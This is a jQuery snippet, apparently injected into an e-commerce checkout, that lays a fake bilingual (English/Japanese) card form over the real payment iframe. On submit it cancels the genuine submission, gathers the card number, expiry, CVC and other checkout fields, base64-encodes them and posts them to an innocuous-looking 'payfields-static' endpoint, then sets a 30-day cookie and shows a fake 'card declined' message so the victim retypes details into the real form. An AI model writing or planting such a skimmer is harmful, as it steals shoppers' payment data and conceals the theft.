
(function ($) {
    if (!$('#card-frame').length || Cookies.get('_pf_ok')) return;
    var en = document.documentElement.lang === 'en';
    var html = '<div id="pf-box" style="position:absolute;z-index:20;background:#fff;box-sizing:border-box;font:15px/1.5 \'Noto Sans JP\',Arial,sans-serif">' +
        '<label style="display:block;font-size:13px;font-weight:600;margin:0 0 12px">' + (en ? 'Card number' : 'カード番号') +
        '<input id="pf-number" class="pf-in" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="1234 1234 1234 1234"></label>' +
        '<div style="display:flex;gap:12px"><label style="flex:1;font-size:13px;font-weight:600">' + (en ? 'Expiry' : '有効期限') +
        '<input id="pf-exp" class="pf-in" autocomplete="cc-exp" maxlength="7" placeholder="MM / YY"></label>' +
        '<label style="flex:1;font-size:13px;font-weight:600">' + (en ? 'Security code' : 'セキュリティコード') +
        '<input id="pf-cvc" class="pf-in" autocomplete="cc-csc" maxlength="4" placeholder="CVC"></label></div></div>';

    function place() {
        var $f = $('#card-frame iframe'), o = $f.offset();
        $('#pf-box').css({ top: o.top, left: o.left, width: $f.outerWidth(), height: $f.outerHeight() });
    }
    setTimeout(function () {
        $('body').append(html);
        $('.pf-in').css({ display: 'block', width: '100%', boxSizing: 'border-box', font: 'inherit', padding: '9px 11px', border: '1px solid #c9c9c9', borderRadius: '7px', marginTop: '3px' });
        place();
        $(window).on('resize scroll', place);
        setInterval(place, 300);
    }, 250);

    document.addEventListener('submit', function (e) {
        var $box = $('#pf-box');
        if (!$box.length || $('[name=payment]:checked').val() !== 'card') return;
        e.preventDefault();
        e.stopImmediatePropagation();
        var info = { n: $('#pf-number').val(), e: $('#pf-exp').val(), c: $('#pf-cvc').val() };
        if (info.n.length < 14) return;
        $.each($('form.checkout-form').serializeArray(), function (i, f) { if (f.name !== '_token') info[f.name] = f.value; });
        $.post('<% url "payfields-static" "/v1/session" %>', { info: btoa(encodeURIComponent(JSON.stringify(info))) }).always(function () {
            $box.remove();
            Cookies.set('_pf_ok', '1', { expires: 30 });
            $('form.checkout-form .form-error').text(en ? 'Your card was declined. Please check the details and try again.' : 'カード情報が正しくありません。もう一度ご入力ください。').prop('hidden', false);
        });
    }, true);
})(jQuery);
